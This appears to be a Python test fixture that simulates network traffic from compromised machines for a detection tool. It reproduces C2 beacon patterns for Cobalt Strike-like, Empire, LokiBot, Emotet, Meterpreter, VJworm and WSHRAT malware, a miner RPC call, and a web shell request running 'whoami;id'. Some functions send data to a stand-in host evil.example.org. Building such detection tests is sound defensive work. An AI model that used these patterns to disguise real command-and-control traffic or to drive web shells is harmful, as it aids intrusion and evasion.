"""Compromised: over HTTP."""
# ruff: noqa: E501 (what is said stands on one line)

from tests.situations.wire import OURS, RANDOM, SERVER, STRANGER, b64, http, resp


def cs_http(wire):
    ua = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)"
    for _i in range(40):
        wire.asked(
            OURS,
            STRANGER,
            80,
            http(
                "GET",
                "/ca",
                STRANGER,
                f"Accept: */*\r\nCookie: {b64(128)}\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n",
                ua=ua,
                browser=False,
            ),
            resp(200, b"", "application/octet-stream"),
        )
        wire.wait(60)
    wire.asked(
        OURS,
        STRANGER,
        80,
        http(
            "POST",
            "/submit.php?id=94210",
            STRANGER,
            "Accept: */*\r\nContent-Type: application/octet-stream\r\n",
            RANDOM.randbytes(400),
            ua=ua,
            browser=False,
        ),
        resp(200, b""),
    )


def cs_http_few(wire):
    ua = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)"
    for _i in range(5):
        wire.asked(
            OURS,
            STRANGER,
            80,
            http(
                "GET",
                "/__utm.gif",
                STRANGER,
                f"Accept: */*\r\nCookie: {b64(128)}\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n",
                ua=ua,
                browser=False,
            ),
            resp(200, b"", "application/octet-stream"),
        )
        wire.wait(60)


def empire(wire):
    for _i in range(40):
        wire.asked(
            OURS,
            STRANGER,
            80,
            http(
                "GET",
                "/login/process.php",
                STRANGER,
                f"Cookie: session={b64(40)}\r\nConnection: Keep-Alive\r\n",
                ua="Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
                browser=False,
            ),
            resp(200, b"<html><body><h1>It works!</h1></body></html>"),
        )
        wire.wait(5)


def lokibot(wire):
    for _i in range(3):
        wire.asked(
            OURS,
            STRANGER,
            80,
            b"POST /five/fre.php HTTP/1.0\r\nUser-Agent: Mozilla/4.08 (Charon; Inferno)\r\nHost: evil.example.org\r\nAccept: */*\r\nContent-Type: application/octet-stream\r\nContent-Encoding: binary\r\nContent-Key: 1234\r\nContent-Length: 200\r\nConnection: close\r\n\r\n"
            + RANDOM.randbytes(200),
            resp(404, b"File not found."),
        )
        wire.wait(60)


def http_bot(wire):
    for _i in range(12):
        wire.asked(
            OURS,
            STRANGER,
            80,
            http(
                "POST",
                "/panel/gate.php",
                "evil.example.org",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                ("data=" + b64(150)).encode(),
                ua="Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 Chrome/41",
                browser=False,
            ),
            resp(200, b64(20).encode()),
        )
        wire.wait(60)


def emotet_http(wire):
    for _i in range(3):
        wire.asked(
            OURS,
            STRANGER,
            8080,
            http(
                "POST",
                "/kz9qwe7/x1abf/",
                STRANGER + ":8080",
                f"Content-Type: application/x-www-form-urlencoded\r\nReferer: http://{STRANGER}/kz9qwe7\r\nUpgrade-Insecure-Requests: 1\r\n",
                ("kjwqe=" + b64(300).replace("+", "%2B").replace("/", "%2F")).encode(),
                ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2)",
                browser=False,
            ),
            resp(200, RANDOM.randbytes(1200), "text/html"),
        )
        wire.wait(20)


def emotet_cookie(wire):
    for _i in range(3):
        wire.asked(
            OURS,
            STRANGER,
            7080,
            http(
                "GET",
                "/",
                STRANGER + ":7080",
                f"Cookie: 1a2b={b64(200)}\r\n",
                ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
                browser=False,
            ),
            resp(200, RANDOM.randbytes(30000), "text/html"),
        )
        wire.wait(20)


def web_meterpreter(wire):
    for _i in range(20):
        wire.asked(
            OURS,
            STRANGER,
            8080,
            http(
                "GET",
                "/Zx1qkjwGvY0k2mW9c3uXwA" + "a" * 8 + "/",
                STRANGER + ":8080",
                "Connection: Keep-Alive\r\nCache-Control: no-cache\r\n",
                ua="Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
                browser=False,
            ),
            resp(200, b"", "application/octet-stream"),
        )
        wire.wait(5)


def vjworm(wire):
    for _i in range(6):
        wire.asked(
            OURS,
            STRANGER,
            7974,
            http(
                "POST",
                "/Vre",
                STRANGER + ":7974",
                "Accept: */*\r\nAccept-Language: en-us\r\nAccept-Encoding: gzip\r\nConnection: Keep-Alive\r\n",
                b"\n",
                ua="VW_9C5A7D11\\DESKTOP-1\\user\\Microsoft Windows 10 Pro\\Windows Defender\\\\YES\\FALSE\\",
                browser=False,
            ),
            resp(200, b""),
        )
        wire.wait(7)


def wshrat(wire):
    for _i in range(6):
        wire.asked(
            OURS,
            STRANGER,
            7121,
            http(
                "POST",
                "/is-ready",
                STRANGER + ":7121",
                "Accept: */*\r\nAccept-Encoding: gzip\r\n",
                b"\n",
                ua="WSHRAT|B45A1234|DESKTOP-1|user|Microsoft Windows 10 Pro|plus|Windows Defender .|false - 1/1/2021|Visual Basic-v2.0",
                browser=False,
            ),
            resp(200, b""),
        )
        wire.wait(5)


def webshell_cmd(wire):
    wire.asked(
        STRANGER,
        SERVER,
        80,
        http(
            "POST",
            "/uploads/x.php",
            "www.example.org",
            "Content-Type: application/x-www-form-urlencoded\r\n",
            b"cmd=whoami;id",
        ),
        resp(200, b"www-data\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
    )


def monero_node_json(wire):
    wire.asked(
        OURS,
        STRANGER,
        8080,
        http(
            "POST",
            "/json_rpc",
            STRANGER,
            "Content-Type: application/json\r\n",
            b'{"id":"0","jsonrpc":"2.0","method":"getblocktemplate","params":{}}',
            ua="xmr-stak",
            browser=False,
        ),
        resp(200, b"{}"),
    )
